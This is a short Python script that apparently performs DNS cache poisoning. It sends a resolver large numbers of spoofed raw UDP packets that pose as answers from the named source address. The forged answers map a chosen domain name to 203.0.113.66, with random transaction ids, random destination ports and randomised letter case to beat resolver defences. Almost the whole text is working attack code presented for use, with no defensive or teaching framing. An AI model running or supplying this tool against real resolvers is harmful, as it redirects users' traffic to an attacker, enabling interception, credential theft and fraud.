"""Guesses at a question beside its way: forger.py TARGET RESOLVER NAME COUNT SECONDS [PORT ...] sends so many replies with the target's
address, or as many as there is time for.

At random ports of Linux' default range, or at those that are given; with random ids and random case. Every reply says
203.0.113.66. Needs the right to send raw packets. Says how many it sent.
"""

import random
import socket
import struct
import sys
import time

target, resolver, name, count, seconds = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
ports = [int(port) for port in sys.argv[6:]] or range(32768, 61000)
FORGED = socket.inet_aton("203.0.113.66")


def in_random_case(text):
    return "".join(random.choice((letter.lower(), letter.upper())) for letter in text)


def qname(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.rstrip(".").split(".")) + b"\0"


def main():
    # A few casings, made before: the guess is as good, and leaves faster.
    bodies = [b"\x85\x80" + struct.pack(">HHHH", 1, 1, 0, 0) + qname(in_random_case(name)) + struct.pack(">HH", 1, 1) +
              b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 86400, 4) + FORGED for _ in range(256)]
    size = 28 + 2 + len(bodies[0])
    # The kernel fills in the checksum and the id; a UDP checksum of zero is none (RFC 768).
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, size, 0, 0, 64, 17, 0, socket.inet_aton(target), socket.inet_aton(resolver))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    sent = 0
    deadline = time.monotonic() + seconds
    for _ in range(count):
        if time.monotonic() > deadline:
            break
        udp = struct.pack(">HHHHH", 53, random.choice(ports), size - 20, 0, random.getrandbits(16))
        try:
            raw.sendto(head + udp + bodies[random.getrandbits(8)], (resolver, 0))
            sent += 1
        except OSError:  # No room for it just now.
            pass
    print(sent)


main()
